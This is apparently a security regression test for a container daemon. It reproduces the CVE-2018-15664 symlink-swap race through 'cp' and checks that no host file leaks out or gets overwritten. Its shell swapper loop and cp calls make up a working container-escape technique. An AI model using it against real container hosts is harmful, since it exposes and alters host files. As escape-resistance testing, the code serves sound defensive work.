"""CVE-2018-15664: `cp` racing a container that swaps a path between a directory and a
symlink to `/`. A daemon that resolves the path and then opens it by name can be made
to read or write the host's filesystem; dockyard must only ever touch the container's."""
import os
import subprocess
import tempfile
import time
import uuid

import pytest

pytestmark = pytest.mark.root

SWAPPER = ("mkdir -p /w; while :; do rm -rf /w/link; mkdir -p /w/link/tmp; "
           "rm -rf /w/link; ln -s / /w/link; done")


def test_cp_symlink_swap_race(daemon, tmp_path, tally):
    fd, marker = tempfile.mkstemp(prefix="dy-cp-marker-", dir="/tmp")
    os.write(fd, b"host secret\n")
    os.close(fd)
    name = "cprace-" + uuid.uuid4().hex[:8]
    daemon.cli("run", "-d", "--name", name, "busybox", "sh", "-c", SWAPPER, check=True)
    leaked = written = False
    payload = tmp_path / "payload"
    payload.write_text("from host\n")
    victim = f"/tmp/dy-cp-victim-{uuid.uuid4().hex[:8]}"
    try:
        end = time.monotonic() + 20
        i = 0
        while i < 15 and time.monotonic() < end:
            out = tmp_path / f"out{i}"
            daemon.cli("cp", f"{name}:/w/link{marker}", str(out))
            if out.exists() and "host secret" in out.read_text(errors="replace"):
                leaked = True
            daemon.cli("cp", str(payload), f"{name}:/w/link{victim}")
            if os.path.exists(victim):
                written = True
            i += 1
    finally:
        daemon.cli("rm", "-f", name)
        os.unlink(marker)
        if os.path.exists(victim):
            os.unlink(victim)
    tally.add("dockyard cp", "cp-read-through-swapped-symlink (CVE-2018-15664)",
              "ESCAPED" if leaked else "BLOCKED")
    tally.add("dockyard cp", "cp-write-through-swapped-symlink (CVE-2018-15664)",
              "ESCAPED" if written else "BLOCKED")
    assert i > 5
    assert not leaked and not written
